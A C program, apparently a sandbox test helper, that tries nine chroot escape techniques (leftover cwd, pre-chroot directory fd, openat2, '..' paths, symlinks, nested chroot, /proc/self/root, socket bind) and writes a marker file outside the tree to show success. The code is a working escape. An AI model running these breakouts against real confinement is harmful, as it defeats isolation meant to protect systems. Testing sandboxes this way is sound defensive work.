/* Try to leave a chroot and write VICTIM (a file outside TREE), one way each:
 *
 *   chroot_breakout WAY TREE VICTIM
 *
 *   cwd       chroot(TREE) from /, no chdir: VICTIM relative to the old cwd
 *   dirfd     a directory fd of / opened before chroot: openat(fd, VICTIM)
 *   openat2   the same fd with openat2(RESOLVE_IN_ROOT)
 *   dotdot    chroot(TREE), chdir("/"): "/../../.." + VICTIM
 *   symlink   TREE/up -> "../../../../../../..": "/up" + VICTIM
 *   abslink   TREE/abs -> "/": "/abs/../../.." + VICTIM
 *   rechroot  chroot(TREE), chdir("/"), chroot("sub"): "../../../.." + VICTIM
 *             from the cwd left outside the new root
 *   procroot  chroot(TREE), chdir("/"): "/proc/self/root" + VICTIM (TREE/proc
 *             being procfs)
 *   bind      chroot(TREE), chdir("/"): bind an AF_UNIX socket at VICTIM's
 *             directory + "/sock" (exit 0 when bound: where is the test's to see)
 *
 * Exit 0: VICTIM was opened for writing and written (escaped); 1: the way
 * failed (the message says where, with the errno).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static void __attribute__((noreturn)) fail(const char *what)
{
    fprintf(stderr, "%s: %s\n", what, strerror(errno));
    exit(1);
}

static void written(int fd, const char *what)
{
    if (fd < 0)
        fail(what);
    if (write(fd, "escaped\n", 8) != 8)
        fail("write");
    printf("escaped through %s\n", what);
    exit(0);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: chroot_breakout WAY TREE VICTIM\n");
        return 2;
    }
    const char *way = argv[1], *tree = argv[2], *victim = argv[3];
    char path[8192];
    if (chdir("/"))
        fail("chdir /");
    int before = open("/", O_DIRECTORY | O_RDONLY);
    if (before < 0)
        fail("open /");
    if (chroot(tree))
        fail("chroot");
    if (!strcmp(way, "cwd"))
        written(open(victim + 1, O_WRONLY | O_TRUNC), way);
    if (!strcmp(way, "dirfd"))
        written(openat(before, victim + 1, O_WRONLY | O_TRUNC), way);
    if (!strcmp(way, "openat2")) {
        struct open_how how = {.flags = O_WRONLY | O_TRUNC, .resolve = RESOLVE_IN_ROOT};
        written((int)syscall(SYS_openat2, before, victim, &how, sizeof how), way);
    }
    if (chdir("/"))
        fail("chdir / in the chroot");
    if (!strcmp(way, "dotdot")) {
        snprintf(path, sizeof path, "/../../../../../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "symlink")) {
        if (symlink("../../../../../../..", "/up") && errno != EEXIST)
            fail("symlink");
        snprintf(path, sizeof path, "/up%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "abslink")) {
        if (symlink("/", "/abs") && errno != EEXIST)
            fail("symlink");
        snprintf(path, sizeof path, "/abs/../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "rechroot")) {
        if (mkdir("/sub", 0755) && errno != EEXIST)
            fail("mkdir");
        if (chroot("/sub"))
            fail("chroot sub");
        snprintf(path, sizeof path, "../../../../../../..%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "procroot")) {
        snprintf(path, sizeof path, "/proc/self/root%s", victim);
        written(open(path, O_WRONLY | O_TRUNC), way);
    }
    if (!strcmp(way, "bind")) {
        struct sockaddr_un sun = {.sun_family = AF_UNIX};
        snprintf(sun.sun_path, sizeof sun.sun_path, "%s", victim);
        char *slash = strrchr(sun.sun_path, '/');
        if (!slash || (size_t)(slash - sun.sun_path) + 6 > sizeof sun.sun_path)
            fail("socket path");
        strcpy(slash + 1, "sock");
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (s < 0 || bind(s, (struct sockaddr *)&sun, sizeof sun))
            fail("bind");
        printf("bound %s\n", sun.sun_path);
        return 0;
    }
    fprintf(stderr, "no way %s\n", way);
    return 2;
}
